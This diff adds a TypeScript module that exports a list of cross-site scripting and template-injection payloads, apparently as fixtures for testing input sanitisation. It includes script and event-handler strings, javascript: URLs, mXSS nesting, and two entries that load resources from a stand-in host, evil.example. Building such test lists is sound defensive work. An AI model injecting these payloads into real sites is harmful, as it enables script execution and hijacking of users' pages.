@@ -1,0 +1,23 @@
+/** Strings that would run something where a page takes text for markup, an address or a template. */
+export const PAYLOADS: readonly string[] = [
+  "<script>window.hit=1</script>",
+  "<img src=x onerror=window.hit=1>",
+  "<svg onload=window.hit=1>",
+  '"><script>window.hit=1</script>',
+  "'\"><img src=x onerror=alert(1)>",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</textarea><img src=x onerror=alert(1)>",
+  "<iframe srcdoc='<script>parent.hit=1</script>'>",
+  "<a href=javascript:alert(1)>press</a>",
+  "javascript:alert(1)",
+  "[press](javascript:alert(1))",
+  "![x](x\" onerror=\"alert(1))",
+  "<style>@import 'https://evil.example/x.css'</style>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<form action=javascript:alert(1)><button>go",
+  "<base href=https://evil.example/>",
+  "\u202e<b onmouseover=alert(1)>gnp.x",
+  "{{constructor.constructor('alert(1)')()}}",
+];
